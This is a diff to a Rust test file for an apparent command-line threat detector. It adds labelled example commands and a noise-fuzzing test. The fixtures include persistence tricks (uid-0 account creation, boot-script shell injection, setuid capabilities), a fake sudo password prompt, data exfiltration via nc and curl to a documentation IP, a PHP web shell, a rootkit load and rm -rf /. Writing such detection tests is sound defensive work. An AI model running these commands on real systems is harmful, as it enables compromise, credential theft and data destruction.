@@ -80,6 +80,12 @@ const EXAMPLES: &[(&str, &str)] = &[
     ("persist.preload_write", "echo /usr/lib/libx.so > /etc/ld.so.preload"),
     ("persist.kernel_module_load", "insmod /tmp/diamorphine.ko"),
     ("persist.setuid_shell", "chmod u+s /bin/bash"),
+    ("persist.setuid_shell", "setcap cap_setuid+ep /usr/bin/python3.11"),
+    ("persist.boot_script_edit", "sed -i -e \"4i $RSHELL\" /etc/network/if-up.d/upstart"),
+    ("persist.boot_script_edit", "echo x | tee /etc/udev/rules.d/71-vbox-kernel-drivers.rules > /dev/null"),
+    ("persist.setuid_any", "chmod 4777 $TMPDIR2/croissant"),
+    ("persist.account_files_write", "sudo useradd -ou 0 -g 0 john"),
+    ("cred.fake_sudo_prompt", "read -sp \"[sudo] password for $USER: \" sudopass"),
     ("persist.at_job", "at now + 1 minute -f /tmp/x"),
     ("persist.redis_config_write", "config set dir /root/.ssh/"),
     ("persist.database_file_write", "select '<?php eval($_POST[1]);?>' into outfile '/var/www/html/x.php';"),
@@ -90,6 +96,9 @@ const EXAMPLES: &[(&str, &str)] = &[
     ("hidden.writable_dotfile", "cp x /dev/shm/.cache-x"),
     ("hidden.dots_only_name", "mkdir '/usr/lib/... /'"),
     ("hidden.sensitive_suffix_in_writable", "vi /tmp/exp.c"),
+    ("hidden.dotfile_sensitive_suffix", "vim .x.c"),
+    ("exfil.archive_to_network", "tar czf - /var/www | nc 198.51.100.4 9000"),
+    ("exfil.upload", "curl -T /tmp/db.sql.gz ftp://198.51.100.4/"),
     ("miner.names", "./xmrig -o stratum+tcp://pool.example:3333 -u wallet"),
     ("impact.destructive", "rm -rf --no-preserve-root /"),
     ("exec.memfd_or_deleted", "exec -a '[kworker/0:1]' ./bot"),
@@ -143,5 +152,23 @@ fn everyday_admin_commands_are_not_alerts() {
     ] {
         let alerts: Vec<_> = scan(cmd).into_iter().filter(|h| h.is_alert()).collect();
         assert!(alerts.is_empty(), "{cmd}: {alerts:?}");
+    }
+}
+
+#[test]
+fn detector_survives_noise() {
+    const ALPHABET: &[u8] = b"\n\\\"'{}[];:=#@ \t*/-|&$`()<>aAz0+=";
+    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
+    for round in 0..2000usize {
+        let len = round % 400;
+        let bytes: Vec<u8> = (0..len)
+            .map(|_| {
+                x ^= x << 13;
+                x ^= x >> 7;
+                x ^= x << 17;
+                ALPHABET[(x % ALPHABET.len() as u64) as usize]
+            })
+            .collect();
+        let _ = scan(&String::from_utf8_lossy(&bytes));
     }
 }
